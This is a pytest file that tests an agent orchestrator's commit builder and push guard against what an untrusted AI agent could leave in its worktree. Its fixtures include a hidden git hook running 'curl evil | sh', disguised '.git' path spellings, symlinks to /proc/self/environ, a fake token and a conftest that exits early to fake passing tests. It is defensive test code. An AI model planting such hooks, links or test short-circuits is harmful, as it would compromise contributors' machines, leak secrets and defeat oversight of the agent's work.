"""The worktree and the trusted clone's new objects read as data at volume and with odd entries: what an agent
can leave behind to make our commit builder or our push guard lose paths, skip objects, block or run out of
memory. Against real git; each case judged from the tree we build or the guard's refusal."""

from __future__ import annotations

import json
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest

from orchestrator.git import agent_commit, head_sha, run_git
from orchestrator.git.publish_guard import PublishRefused, blocked_reason, check_new_commits
from orchestrator.git.worktree_pool import WorktreePool
from tests.git_origin import agent_worktree, bare_origin, push_main
from tests.security.fake_secrets import GITHUB_CLASSIC
from tests.test_commit_builder import origin, pool  # noqa: F401  (fixtures)

ROOT = Path(__file__).resolve().parents[1]


def fast_import(trusted: Path, parent: str, files: dict[str, bytes], message: str = "agent work") -> str:
    """A commit on `parent` in the trusted clone adding `files` (a stream to `git fast-import`: thousands of
    blobs in well under a second)."""
    stream = [
        b"commit refs/agentos/test\n",
        b"committer A <a@x.invalid> 0 +0000\n",
        b"data %d\n%s\n" % (len(message), message.encode()),
        b"from %s\n" % parent.encode(),
    ]
    for path, data in files.items():
        stream.append(b"M 100644 inline %s\ndata %d\n%s\n" % (path.encode(), len(data), data))
    done = subprocess.run(
        ["git", "--git-dir", str(trusted), "fast-import", "--quiet"],
        input=b"".join(stream),
        capture_output=True,
        check=True,
    )
    assert done.returncode == 0
    return run_git(["rev-parse", "refs/agentos/test"], trusted).stdout.strip()


def test_a_token_among_thousands_of_new_objects_is_still_found(pool: WorktreePool) -> None:  # noqa: F811
    """The push guard lists the new objects: a listing longer than any output cap must be read whole, or
    the objects cut off (the first ones: the commit and an early blob) are pushed unscanned."""
    worktree = pool.acquire("agent/1-x", "origin/main", owner="t1")
    trusted = pool.trusted_dir
    assert trusted is not None
    padding = "p" * 200
    files = {"aaa-leak.txt": f"token = {GITHUB_CLASSIC}\n".encode()}
    files |= {f"pad/{padding}{n:05d}": b"%d\n" % n for n in range(20000)}  # ~5 MB of listing
    sha = fast_import(trusted, head_sha(worktree), files)
    with pytest.raises(PublishRefused) as refused:
        check_new_commits(trusted, sha, pool.settings)
    assert refused.value.secrets and any("aaa-leak.txt" in p for p in refused.value.problems)


READ_UNDER_A_LOW_FILE_LIMIT = textwrap.dedent(
    """
    import json, resource, sys
    sys.path.insert(0, sys.argv[1])
    from pathlib import Path
    from orchestrator.git import agent_commit
    from orchestrator.git import GitSettings, ensure_clone
    from orchestrator.git.worktree_pool import WorktreePool
    worktree = Path(sys.argv[2])
    clone = ensure_clone(sys.argv[4], Path(sys.argv[3]))  # registers our clones' layout in this process
    WorktreePool(clone, worktree.parent, size=1)
    start = agent_commit.prepare(worktree, "t1", "agent/1-x", "main", "implement", GitSettings())
    (worktree / "a-new-file.txt").write_text("new\\n")
    resource.setrlimit(resource.RLIMIT_NOFILE, (96, 96))
    built = agent_commit.build(start, GitSettings())
    print(json.dumps({"changed": built.changed, "refused": built.snapshot.refused}))
    """
)


def test_more_directories_than_open_files_lose_no_path(origin: Path, tmp_path: Path) -> None:  # noqa: F811
    """A worktree with more directories than the process may open files (cron's 1024 is common; an agent
    can make 100000): every tracked path is still read, none is taken for deleted."""
    seed = tmp_path / "many"
    run_git(["clone", "--quiet", str(origin), str(seed)], tmp_path)
    for n in range(300):
        (seed / f"d{n:03d}").mkdir()
        (seed / f"d{n:03d}" / "f.txt").write_text(f"{n}\n")
    push_main(seed, "many dirs")
    many, worktree = agent_worktree(origin, tmp_path, "many")
    clone = many.repo_dir
    out = subprocess.run(
        [
            sys.executable,
            "-c",
            READ_UNDER_A_LOW_FILE_LIMIT,
            str(ROOT),
            str(worktree),
            str(clone),
            str(origin),
        ],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert out.returncode == 0, out.stderr[-3000:]
    built = json.loads(out.stdout)
    assert built == {"changed": ["a-new-file.txt"], "refused": []}
    assert agent_commit  # the module under test


READ_UNDER_A_MEMORY_CAP = textwrap.dedent(
    """
    import json, resource, sys
    sys.path.insert(0, sys.argv[1])
    from pathlib import Path
    from orchestrator.git import agent_commit
    from orchestrator.git import GitSettings, ensure_clone
    from orchestrator.git.worktree_pool import WorktreePool
    worktree = Path(sys.argv[2])
    clone = ensure_clone(sys.argv[4], Path(sys.argv[3]))
    WorktreePool(clone, worktree.parent, size=1)
    start = agent_commit.prepare(worktree, "t1", "agent/1-x", "main", "implement", GitSettings())
    for n in range(5):  # 300 MB of new content, one file at a time within GitHub's 100 MB limit
        with open(worktree / f"big-{n}.bin", "wb") as fh:
            fh.write(b"%d" % n)
            fh.truncate(60 * 1024 * 1024)
    resource.setrlimit(resource.RLIMIT_AS, (260 * 1024 * 1024, 260 * 1024 * 1024))
    built = agent_commit.build(start, GitSettings())
    print(json.dumps({"changed": built.changed, "refused": built.snapshot.refused, "tree": built.tree}))
    """
)


def test_new_content_is_never_held_in_memory_all_at_once(pool: WorktreePool, origin: Path) -> None:  # noqa: F811
    """Five new 60 MB files (each under GitHub's file limit) read by a process allowed 260 MB: the new blobs
    go to disk as they are read, so the commit is built instead of the queue running out of memory."""
    worktree = pool.acquire("agent/1-x", "origin/main", owner="t1")
    clone = pool.repo_dir
    out = subprocess.run(
        [sys.executable, "-c", READ_UNDER_A_MEMORY_CAP, str(ROOT), str(worktree), str(clone), str(origin)],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert out.returncode == 0, out.stderr[-3000:]
    built = json.loads(out.stdout)
    assert built["changed"] == [f"big-{n}.bin" for n in range(5)] and built["refused"] == []
    assert built["tree"]
    assert pool.trusted_dir is not None
    scratch = pool.trusted_dir / "agentos-tmp"
    assert not (list(scratch.iterdir()) if scratch.is_dir() else []), "the copies are removed"


def test_more_new_content_than_a_push_may_carry_is_refused_by_name(pool: WorktreePool) -> None:  # noqa: F811
    from orchestrator.git.commit_builder import read_worktree

    worktree = pool.acquire("agent/1-x", "origin/main", owner="t1")
    for n in range(3):
        (worktree / f"part-{n}.txt").write_text("x" * 600)
    assert pool.trusted_dir is not None
    snapshot = read_worktree(
        pool.trusted_dir, worktree, head_sha(worktree), pool.settings, max_new_bytes=1000
    )
    snapshot.discard()
    assert [r.split(":")[0] for r in snapshot.refused] == ["part-1.txt", "part-2.txt"]
    assert "more than 1000 bytes of new content" in snapshot.refused[0]


@pytest.mark.parametrize(
    "path",
    [
        ".g\u200cit/config",
        "x/.gi\ufefft/hooks/post-checkout",
        ".git::$INDEX_ALLOCATION/x",
        ".GIT /hooks/x",
        "git~1/x",
    ],
)
def test_every_spelling_of_dot_git_is_blocked(path: str) -> None:
    """A checkout on macOS (HFS+ ignores some code points) or Windows (NTFS streams, trailing dots, 8.3 names)
    takes these for `.git`: a hook there runs on a contributor's clone. Never committed, never pushed."""
    assert blocked_reason(path) is not None


def test_a_dot_git_spelled_for_another_system_is_left_out_of_the_commit(pool: WorktreePool) -> None:  # noqa: F811
    worktree = pool.acquire("agent/1-x", "origin/main", owner="t1")
    start = agent_commit.prepare(worktree, "t1", "agent/1-x", "main", "implement", pool.settings)
    hook = worktree / ".g\u200cit" / "hooks" / "post-checkout"
    hook.parent.mkdir(parents=True)
    hook.write_text("#!/bin/sh\ncurl evil | sh\n")
    (worktree / "ok.txt").write_text("fine\n")
    built = agent_commit.build(start, pool.settings)
    assert built.changed == ("ok.txt",)
    assert built.snapshot is not None and built.snapshot.dropped == (".g\u200cit/hooks/post-checkout",)


@pytest.mark.parametrize("name", [".gitmodules", "sub/.mailmap", "docs/.gitattributes"])
def test_a_link_where_git_reads_its_own_files_is_refused(pool: WorktreePool, name: str) -> None:  # noqa: F811
    worktree = pool.acquire("agent/1-x", "origin/main", owner="t1")
    start = agent_commit.prepare(worktree, "t1", "agent/1-x", "main", "implement", pool.settings)
    (worktree / name).parent.mkdir(parents=True, exist_ok=True)
    (worktree / name).symlink_to("/proc/self/environ")
    built = agent_commit.build(start, pool.settings)
    assert built.tree is None and built.snapshot is not None
    assert [r.split(":")[0] for r in built.snapshot.refused] == [name]


def test_before_our_tests_the_worktree_holds_exactly_the_commit(tmp_path: Path) -> None:
    """What the commit leaves out must not be there when our test step runs: ignored files (also tracked
    ones' ignored neighbours), build leftovers, a blocked `.git` spelling go;
    a blocked path the agent changed (a tracked result file) gets the committed version back; tracked files that are
    ignored, and the agent's new files, stay."""
    files = {
        ".gitignore": "*.log\nbuild/\n",
        ".agent_result.md": "the repository tracks one\n",
        "build/keep.txt": "tracked although ignored\n",
    }
    bare = bare_origin(tmp_path, files)
    slots, worktree = agent_worktree(bare, tmp_path, "demo")
    start = agent_commit.prepare(worktree, "t1", "agent/1-x", "main", "implement", slots.settings)

    (worktree / "new.py").write_text("print('the work')\n")
    (worktree / "debug.log").write_text("ignored\n")
    (worktree / "build" / "conftest.py").write_text("import os\nos._exit(0)\n")
    (worktree / "__pycache__").mkdir()
    (worktree / "__pycache__" / "pytest.cpython-311.pyc").write_bytes(b"\0")
    (worktree / "pytest.pyc").write_bytes(b"\0")
    (worktree / ".agent_result.md").write_text("STATUS: complete\nSUMMARY: x\n")
    (worktree / ".g\u200cit").mkdir()
    (worktree / ".g\u200cit" / "conftest.py").write_text("x = 1\n")
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "precious.txt").write_text("not ours to delete\n")
    (worktree / "link.log").symlink_to(outside)  # ignored, and a link: removed as a link

    built = agent_commit.build(start, slots.settings)
    removed = agent_commit.leave_only_the_work(built, slots.settings)

    on_disk = sorted(
        str(p.relative_to(worktree)) for p in worktree.rglob("*") if p.name != ".git" and not p.is_dir()
    )
    assert on_disk == [".agent_result.md", ".gitignore", "build/keep.txt", "new.py"], removed
    assert (worktree / ".agent_result.md").read_text() == "the repository tracks one\n"
    assert (outside / "precious.txt").read_text() == "not ours to delete\n"
